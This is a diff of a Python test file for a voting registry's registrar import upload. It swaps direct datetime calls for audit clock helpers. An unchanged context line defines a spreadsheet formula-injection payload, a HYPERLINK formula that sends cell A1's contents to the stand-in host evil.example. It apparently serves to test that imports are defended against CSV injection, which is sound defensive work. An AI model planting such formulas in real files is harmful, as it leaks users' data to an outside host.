@@ -6,11 +6,13 @@ import csv
 import io
 import time
 import zipfile
-from datetime import UTC, date, datetime
+from datetime import date
 from typing import Any
 
 import pytest
 
+from audit.clock import day_of, utc_now
+from tests.conftest import ZONE
 from tests.web.site import Browser, Site
 from voting.registry.models import Affiliation, Person, Unit
 from web.identity.entries import AccountsCreated
@@ -23,7 +25,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 def upload(browser: Browser, name: str, content: bytes) -> Any:
     return browser.submit(
         "/registrar/imports",
-        {"as_of": datetime.now(UTC).date().isoformat(), "kind": "roll"},
+        {"as_of": day_of(utc_now(), ZONE).isoformat(), "kind": "roll"},
         page="/registrar/imports",
         files={"file": (name, content, "application/octet-stream")},
     )
